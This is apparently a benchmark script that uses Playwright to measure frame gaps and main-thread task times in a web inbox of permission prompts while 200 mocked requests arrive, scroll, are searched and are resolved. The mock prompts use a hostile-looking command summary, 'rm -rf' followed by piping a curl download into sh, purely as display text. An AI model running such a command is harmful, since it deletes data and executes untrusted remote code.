// Frames of the inbox while 200 requests come, are scrolled, searched and leave:
// the processor time of the longest task on the page's main thread (what a
// frame costs, however busy the machine is), and the longest gap between frames
// as a person would see it.  The bar: 50 ms.
//
//     node bench/page_frames.mjs [rounds]
import { createRequire } from "node:module";
import { cpus, loadavg } from "node:os";
import { join } from "node:path";
import { Gate, root, sleep, until } from "../tests/web/harness.mjs";

const { chromium } = createRequire(join(root, "tests/node/package.json"))("playwright-core");
const rounds = Number(process.argv[2] ?? 5);
const worst = (v) => Math.max(0, ...v);
const median = (v) => [...v].sort((a, b) => a - b)[Math.floor(v.length / 2)];

/** In the page: the gaps between frames. */
function watch() {
  globalThis.gaps = [];
  let last = 0;
  const frame = (now) => {
    if (last) globalThis.gaps.push(now - last);
    last = now;
    requestAnimationFrame(frame);
  };
  requestAnimationFrame(frame);
}

/** Milliseconds of processor time of each task of the page's main thread. */
function tasks(trace) {
  const events = JSON.parse(trace).traceEvents;
  const main = events.filter((e) => e.name === "thread_name" && e.args.name === "CrRendererMain").map((e) => `${e.pid} ${e.tid}`);
  return events.filter((e) => e.name.endsWith("RunTask") && e.tdur && main.includes(`${e.pid} ${e.tid}`)).map((e) => e.tdur / 1000);
}

const gate = await new Gate("[page]\narming_ms = 0\n").start();
const browser = await chromium.launch({ executablePath: "/usr/bin/chromium", args: ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"] });
try {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, storageState: await gate.session() });
  const page = await context.newPage();
  await page.addInitScript(watch);
  await page.goto(`${gate.origin}/inbox`);
  await page.locator("main h1").waitFor();
  await until(async () => (await gate.as("viewer", "GET", "/v1/state")).body.attended, "the page");
  // A real question, seen as the gate tells it, is the pattern of the others.
  await gate.ask({ params: { command: "git status" }, extension: { id: "ext.bench", name: "Bench", version: "1.0.0" } });
  const kit = await until(async () => (await gate.as("person", "GET", "/v1/prompts?limit=5")).body.prompts.find((p) => p.open), "a question");
  await gate.as("person", "POST", `/v1/prompts/${kit.promptId}/decision`, { decision: "deny_once" });
  let now = [];
  let told = "";
  await page.route(/\/v1\/events\?/, (r) => {
    const body = `: here\n\n${told}`;
    told = "";
    return r.fulfill({ status: 200, contentType: "text/event-stream", body });
  });
  await page.route(/\/v1\/prompts\?/, (r) => r.fulfill({ json: { prompts: now } }));
  await page.route(/\/v1\/prompts\/many-/, (r) => {
    const id = new URL(r.request().url()).pathname.split("/").pop();
    return r.fulfill({ json: now.find((p) => p.promptId === id) ?? { ...kit, promptId: id, open: false, decision: "deny_once", by: "tui", options: [] } });
  });
  const tell = (kind, data) => `event: ${kind}\ndata: ${JSON.stringify({ ts: new Date().toISOString(), payload: { type: kind, data } })}\n\n`;
  await page.evaluate(() => dispatchEvent(new Event("online")));
  const count = (n) =>
    until(async () => {
      const drawn = await page.locator(".inbox-cards .inbox-card").count();
      // Of many, those near the screen are drawn.
      return n === 0 ? drawn === 0 : drawn > 15 && (await page.locator(".tabs .count").first().innerText()) === String(n);
    }, `${n} cards`);

  const parts = {
    come: async (k) => {
      now = Array.from({ length: 200 }, (_, i) => ({
        ...kit,
        promptId: `many-${k}-${i}`,
        open: true,
        scopes: [{ kind: "command", summary: `rm -rf /srv/${k}/${i} && curl -s https://example.test/${i} | sh > /tmp/out ${"x".repeat(300)}` }],
        folds: [{ at: 0, times: 1 }],
        extension: { id: `ext.${i % 7}`, name: `Extension ${i % 7}`, version: "1.0.0" },
        options: ["allow_once", "allow_session", "allow_always", "deny_once", "deny_always"],
        expiresAt: new Date(Date.now() + 900_000 - i * 1000).toISOString(),
      }));
      told = now.map((p) => tell("capability_prompt", { promptId: p.promptId })).join("");
      await count(200);
    },
    wait: () => sleep(2500), // the countdowns tick
    scroll: async () => {
      for (let i = 0; i < 40; i++) await page.mouse.wheel(0, 400);
    },
    search: async () => {
      const field = page.getByRole("searchbox", { name: "Search what waits" });
      await field.fill("srv 17");
      await sleep(200);
      await field.fill("");
      await count(200);
    },
    leave: async () => {
      told = now.map((p) => tell("capability_resolved", { promptId: p.promptId, decision: "deny_once", by: "tui" })).join("");
      now = [];
      await count(0);
    },
  };
  const seen = Object.fromEntries(Object.keys(parts).map((p) => [p, { cpu: [], gap: [] }]));
  for (let k = 0; k < rounds; k++)
    for (const [name, run] of Object.entries(parts)) {
      await page.evaluate(() => (globalThis.gaps.length = 0));
      await browser.startTracing(page, { categories: ["toplevel", "disabled-by-default-devtools.timeline"] });
      await run(k);
      await sleep(100);
      const trace = await browser.stopTracing();
      seen[name].cpu.push(worst(tasks(trace.toString())));
      seen[name].gap.push(worst(await page.evaluate(() => globalThis.gaps)));
    }
  for (const [name, v] of Object.entries(seen))
    console.log(`200 requests ${name.padEnd(7)} longest task ${worst(v.cpu).toFixed(1)} ms of processor time (median of rounds ${median(v.cpu).toFixed(1)}), longest gap between frames ${worst(v.gap).toFixed(0)} ms (median ${median(v.gap).toFixed(0)})`);
  console.log(`the bar is 50 ms; ${rounds} rounds, load average ${loadavg()[0].toFixed(1)} on ${cpus().length} cores`);
} finally {
  await browser.close();
  await gate.remove();
}
